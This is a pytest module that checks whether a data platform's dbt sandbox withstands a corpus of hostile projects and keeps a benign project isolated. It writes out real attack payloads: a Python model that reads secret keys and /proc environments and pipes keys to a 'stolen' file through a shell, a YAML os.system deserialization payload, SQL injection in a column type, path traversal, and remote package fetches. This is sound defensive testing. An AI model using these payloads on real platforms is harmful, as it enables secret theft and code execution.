"""Whole hostile projects with every check of the platform off: their files reach a real dbt in
the real engine child as they are. They do no harm, and a good project beside them is not changed.

Each attack is a run of dbt. CI runs a part of them, DATANIKA_ATTACKS=all runs all.
"""

from __future__ import annotations

import asyncio
import os
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from datanika.contracts.enums import StepState
from datanika.contracts.events import NodeFinished, RunEvent, StepFinished
from tests.attacks.corpus import ENDLESS, PROJECTS
from tests.support.attacked import CANARY, Platform, attacked_platform, harmless
from tests.test_engines.steps import duckdb
from tests.test_engines.targets import ask_duckdb

KEY = "DATANIKA_SECRET_KEY"
ASKS = "{{{{ env_var('DATANIKA_SECRET_KEY') }}}}"
HTTP = "http://127.0.0.1:{port}/x"
HEAD = "name: org1\nversion: 1.0.0\nprofile: org1\n"
PYTHON = """
import os, socket, subprocess
def model(dbt, session):
    found = [os.environ.get('DATANIKA_SECRET_KEY'), '']
    for path in ('{home}/keys', '/proc/1/environ', f'/proc/{{os.getppid()}}/environ'):
        try:
            found.append(open(path, 'rb').read().decode('latin-1'))
        except OSError as error:
            found.append(str(error))
    for act in (
        lambda: open('{home}/keys', 'w').write('gone'),
        lambda: open('{home}/orgs/2/files/evil.csv', 'w').write('x'),
        lambda: socket.create_connection(('127.0.0.1', {port}), 2).send(b'x'),
        lambda: subprocess.run(['sh', '-c', 'cat {home}/keys > {root}/stolen']),
        lambda: os.kill(os.getppid(), 0) or os.chmod('{home}/keys', 0o777),
        lambda: os.symlink('{home}/keys', '{root}/link'),
    ):
        try:
            act()
        except Exception as error:
            found.append(str(error))
    import pandas
    return pandas.DataFrame({{'a': [str(one) for one in found]}})
"""
STEALS = "{{{{ run_query(\"select 1\").from_csv('{home}/keys').columns[0].values() }}}}"

ENGINE: list[tuple[str, dict[str, str]]] = [
    ("python model", {"models/attack.py": PYTHON}),
    ("hooks", {"dbt_project.yml": HEAD + "on-run-start: [\"copy (select 1) to '{home}/keys'\"]\n"
     "on-run-end: [\"attach '{home}/orgs/2/warehouse.duckdb' as w\"]\n"}),
    ("query comment", {"dbt_project.yml": HEAD + f'query-comment: "{ASKS}"\n'}),
    ("target path", {"dbt_project.yml": HEAD + "target-path: '{home}/orgs/2/files'\n"}),
    ("log path", {"dbt_project.yml": HEAD + "log-path: '{home}/orgs/2/files'\n"}),
    ("packages path", {"dbt_project.yml": HEAD + "packages-install-path: '{home}/orgs/2'\n"}),
    ("model paths", {"dbt_project.yml": HEAD + "model-paths: ['{home}/orgs/2/files', models]\n"}),
    ("seed paths", {"dbt_project.yml": HEAD + "seed-paths: ['{home}/orgs/2/files']\n"}),
    ("macro paths", {"dbt_project.yml": HEAD + "macro-paths: ['{home}', '/proc/self']\n"}),
    ("asset paths", {"dbt_project.yml": HEAD + "asset-paths: ['{home}']\n"}),
    ("clean targets", {"dbt_project.yml": HEAD + "clean-targets: ['{home}']\n"}),
    ("a link out of it", {"models/schema.yml": "version: 2\nsources: [{{name: s, tables: "
     "[{{name: t, identifier: '../../x', external: {{location: '{home}/keys'}}}}]}}]\n"}),
    ("an installed package", {"dbt_packages/evil/dbt_project.yml": "name: evil\nversion: '1'\n"
     "on-run-start: [\"copy (select 1) to '{home}/keys'\"]\n",
     "dbt_packages/evil/macros/m.sql": "{{% macro default__ref(x) %}}" + STEALS
     + "{{% endmacro %}}",
     "packages.yml": "packages: [{{local: dbt_packages/evil}}]\n"}),
    ("a local package", {"packages.yml": "packages: [{{local: '{home}/orgs/2'}}]\n"}),
    ("a git package", {"packages.yml": f"packages: [{{{{git: '{HTTP}'}}}}]\n"}),
    ("a tarball", {"packages.yml": f"packages: [{{{{tarball: '{HTTP}', name: x}}}}]\n"}),
    ("a materialization", {"macros/v.sql": "{{% materialization view, adapter='duckdb' %}}" + STEALS
     + "{{% endmaterialization %}}"}),
    ("ref", {"macros/r.sql": "{{% macro ref(x) %}}" + ASKS + "{{% endmacro %}}",
     "models/b.sql": "select '{{{{ ref('attack') }}}}' as a"}),
    ("schema names", {"macros/s.sql": "{{% macro generate_schema_name(a, n) %}}{{{{ env_var('" + KEY
     + "', 'x') }}}}{{% endmacro %}}"}),
    ("run_hooks", {"macros/h.sql": "{{% macro run_hooks(h, inside_transaction=True) %}}"
     "{{% do run_query(\"copy (select 1) to '{home}/keys'\") %}}{{% endmacro %}}"}),
    ("a csv of agate", {"macros/a.sql": "{{% macro m() %}}" + STEALS + "{{% endmacro %}}",
     "models/b.sql": "select $$" + "{{{{ m() }}}}" + "$$ as a"}),
    ("an external table", {"models/b.sql": "{{{{ config(materialized='external', "
     "location='{home}/orgs/2/files/evil.parquet') }}}} select 1 as a"}),
    ("an extension", {"models/b.sql": "{{{{ config(pre_hook='install httpfs; load httpfs') }}}} "
     "select * from read_text('http://127.0.0.1:{port}/x')"}),
    ("access", {"models/b.sql": "{{{{ config(pre_hook=\"set enable_external_access=true\") }}}} "
     "select * from read_text('{home}/keys')"}),
    ("a plugin", {"dbt_project.yml": HEAD + "vars: {{}}\nmodels: {{+plugin: x, "
     "+location: '{home}/keys'}}\n"}),
    ("profiles of its own", {"profiles.yml": "org1: {{target: x, outputs: {{x: {{type: duckdb, "
     "path: '{home}/orgs/2/warehouse.duckdb'}}}}}}\n"}),
    ("a path out of it", {"models/../../../../evil.sql": "select 1"}),
    ("environment of a unit test", {"models/u.yml": "unit_tests: [{{name: u, model: attack, "
     "given: [], expect: {{rows: [{{a: '1'}}]}}, "
     "overrides: {{env_vars: {{DATANIKA_HOME: x}}}}}}]\n"}),
    ("rows of a unit test", {"models/u.yml": "unit_tests: [{{name: u, model: attack, given: [], "
     "expect: {{rows: [{{a: \"" + ASKS + "\"}}]}}}}]\n"}),
    ("text that yml renders", {"models/d.yml": "models: [{{name: attack, description: \"" + ASKS
     + "\", meta: {{a: \"" + ASKS + "\"}}}}]\n"}),
    ("yml of Python", {"models/p.yml": "models: !!python/object/apply:os.system "
     "['cat {home}/keys > {root}/stolen']\n"}),
    ("modules", {"models/b.sql": "select '{{{{ modules.re.sys.modules }}}}' as a"}),
    ("a seed over a path", {"seeds/s.csv": "a\n{home}/keys\n", "seeds/s.yml": "seeds: [{{name: s, "
     "config: {{column_types: {{a: \"text); copy (select 1) to '{home}/keys'; --\"}}}}}}]\n"}),
]  # fmt: skip
"""What reaches for the platform, of a project that the reader would not even take."""

CORPUS = [*((name, files, True) for name, files in ENGINE),
          *((name, files, False) for name, files, _ in PROJECTS)]  # fmt: skip
CHOSEN = CORPUS if os.environ.get("DATANIKA_ATTACKS") == "all" else CORPUS[:: len(CORPUS) // 6]


@pytest.fixture(scope="module")
async def platform(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Platform]:
    async with attacked_platform(tmp_path_factory) as made:
        yield made


def written(platform: Platform, files: dict[str, str], is_template: bool) -> dict[str, str]:
    """The files of an attack, which know the platform's places."""
    if not is_template:
        return files
    places = {"home": platform.home, "root": platform.root, "port": platform.port}
    return {name: text.format(**places) for name, text in files.items()}


def test_there_are_enough_attacks() -> None:
    assert len(CORPUS) > 70
    assert len({str(files) for _, files, _ in CORPUS}) == len(CORPUS)


@pytest.mark.timeout(1800)
async def test_no_hostile_project_does_harm(platform: Platform) -> None:
    told: dict[str, list[RunEvent]] = {}
    events: list[RunEvent] = []
    with harmless(platform, events):
        for name, files, is_template in CHOSEN:
            project = {"models/attack.sql": "select 1 as a"} | written(platform, files, is_template)
            told[name] = await platform.run_step(platform.project(project), memory_mb=1024)
            events += told[name]
    for name, found in told.items():
        for event in found:
            assert "root:x:0" not in event.model_dump_json(), name
    if "a path out of it" in told:
        [refused] = [e for e in told["a path out of it"] if isinstance(e, StepFinished)]
        assert refused.failure is not None and refused.failure.code == "project_path_refused"


GOOD = {
    "dbt_project.yml": HEAD,
    "models/schema.yml": "version: 2\nmodels: [{name: mart, columns: [{name: id, data_tests: "
    "[unique, not_null]}]}]\n",
    "models/stg.sql": "{{ config(materialized='table') }}\n"
    "select i as id, i % 7 as part from range(1000) t(i)",
    "models/mart.sql": "select * from {{ ref('stg') }} where part < 3",
    "seeds/names.csv": "id,name\n1,a\n2,b\n",
}


def outcome(events: list[RunEvent]) -> list[tuple[object, ...]]:
    """What a run told of its nodes, without its times."""
    found: list[tuple[object, ...]] = [
        (event.name, event.resource_type, event.state, event.rows, event.relation, event.columns,
         event.depends_on, event.failure, event.details.get("compiled_sql"))
        for event in events
        if isinstance(event, NodeFinished)
    ]  # fmt: skip
    found += [(e.state, e.failure, e.rows) for e in events if isinstance(e, StepFinished)]
    return sorted(found, key=str)


async def build_good(platform: Platform, root: Path) -> tuple[list[object], object]:
    step = platform.project(GOOD, owner="good").model_copy(update={"destination": duckdb(root)})
    events = await platform.run_step(step)
    rows = ask_duckdb(root)("select count(*), sum(id), sum(part) from analytics.mart")
    return [*outcome(events)], (rows, ask_duckdb(root)("from analytics.names order by id"))


@pytest.mark.timeout(600)
async def test_a_good_project_beside_hostile_ones_is_what_it_is_alone(
    platform: Platform, tmp_path: Path
) -> None:
    alone, beside = tmp_path / "alone", tmp_path / "beside"
    expected = await build_good(platform, alone)
    assert expected[0][-1] is not None and StepState.SUCCEEDED in str(expected[0])

    hostile = [
        # Of the same names, so that a cache or a folder that is shared would be seen.
        {**GOOD, "models/stg.sql": "select 'evil' as id, 'evil' as part"},
        {**GOOD, "macros/ref.sql": "{% macro ref(x) %}(select 666 as id, 1 as part){% endmacro %}"},
        {"models/attack.sql": f"select '{ENDLESS[0]}' as a"},
        written(platform, dict(ENGINE)["python model"], True),
    ]
    steps = [platform.project(files, owner="hostile") for files in hostile]
    attacks = [
        asyncio.create_task(platform.run_step(step, cpu_seconds=6, memory_mb=1024))
        for step in steps
    ]
    found = await build_good(platform, beside)
    ended = await asyncio.gather(*attacks)
    again = await build_good(platform, beside)

    assert found == expected, "while they ran"
    assert again == expected, "and after them"
    assert CANARY not in str(ended)
